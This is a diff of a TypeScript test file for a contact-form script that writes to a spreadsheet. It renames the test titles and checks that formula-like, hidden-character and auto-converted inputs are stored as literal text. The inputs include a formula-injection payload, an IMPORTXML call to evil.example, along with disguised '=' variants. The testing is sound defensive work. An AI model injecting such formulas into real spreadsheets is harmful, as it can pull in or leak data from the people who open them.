@@ -10,34 +10,37 @@ beforeEach(() => {
 
 const post = (payload: unknown, id?: string) => script.post(payload, id ? { submission: id } : {});
 
-describe('case 21 a cell is text that reads as it was sent', () => {
+describe('case 21 docs/apps-script.gs', () => {
   const formulas = ['=1+1', '=IMPORTXML("https://evil.example","//a")', '+919876543210', '-1', '@SUM(A1)'];
   const hidden = ['\t=1', '\r=1', '\n=1', '\uff1d1', '\uff0b1', '\u202e=1', '\ufeff=1', '\u0000=1', ' =1'];
   const guessed = ['015112345678', '1/2', '1e5', '2026-03-02', '10:30', 'TRUE', '12345678901234567890', '5%', ''];
   const quoted = ["'twas", "'=1", "''=1", "'"];
 
-  test.each([...formulas, ...hidden, ...guessed, ...quoted])('%j, sent by a browser', (message) => {
+  test.each([...formulas, ...hidden, ...guessed, ...quoted])('stores %j from a browser as literal text', (message) => {
     expect(post(payloadOf('contact', { message, name: message, phone: message }))).toEqual({ ok: true });
     expect(script.records('Contact')).toMatchObject([
       { message: { text: message }, name: { text: message }, phone: { text: message } },
     ]);
   });
 
-  test.each([...formulas, '\t=1', '\uff1d1', ...guessed, ...quoted])('%j, sent by the relay', (message) => {
-    expect(post(asSpreadsheetRow(payloadOf('contact', { message, phone: '+4915112345678' })), newKey())).toEqual({
-      ok: true,
-    });
-    expect(script.records('Contact')).toMatchObject([
-      { message: { text: message }, phone: { text: '+4915112345678' } },
-    ]);
-  });
+  test.each([...formulas, '\t=1', '\uff1d1', ...guessed, ...quoted])(
+    'stores %j from the relay as literal text',
+    (message) => {
+      expect(post(asSpreadsheetRow(payloadOf('contact', { message, phone: '+4915112345678' })), newKey())).toEqual({
+        ok: true,
+      });
+      expect(script.records('Contact')).toMatchObject([
+        { message: { text: message }, phone: { text: '+4915112345678' } },
+      ]);
+    },
+  );
 
-  test('"\'twas", sent by a relay of before, which put no apostrophe before it', () => {
+  test('stores "\'twas" from an earlier relay, which added no apostrophe, as literal text', () => {
     post(payloadOf('contact', { message: "'twas" }), newKey());
     expect(script.records('Contact')).toMatchObject([{ message: { text: "'twas" } }]);
   });
 
-  test('the dev provider spreadsheet changes all of these when they are typed', () => {
+  test('writes to a fake spreadsheet that converts all these values when a person types them', () => {
     const tab = script.tabNamed('Contact');
     const changed = [...formulas, ...hidden, ...guessed.filter(Boolean), ...quoted];
     changed.forEach((value) => tab?.appendRow([value]));
@@ -45,10 +48,13 @@ describe('case 21 a cell is text that reads as it was sent', () => {
     expect([tab?.rows.length, kept]).toEqual([changed.length, []]);
   });
 
-  test.each([...formulas, ...guessed, ...quoted])('%j, in a column that the owner formatted as text', (message) => {
-    const tab = script.tabNamed('Contact');
-    for (let column = 1; column <= 10; column += 1) tab?.textColumns.add(column);
-    post(payloadOf('contact', { message }));
-    expect(script.records('Contact')).toMatchObject([{ message: { text: message } }]);
-  });
+  test.each([...formulas, ...guessed, ...quoted])(
+    'stores %j as literal text in a column with the format "Plain text"',
+    (message) => {
+      const tab = script.tabNamed('Contact');
+      for (let column = 1; column <= 10; column += 1) tab?.textColumns.add(column);
+      post(payloadOf('contact', { message }));
+      expect(script.records('Contact')).toMatchObject([{ message: { text: message } }]);
+    },
+  );
 });
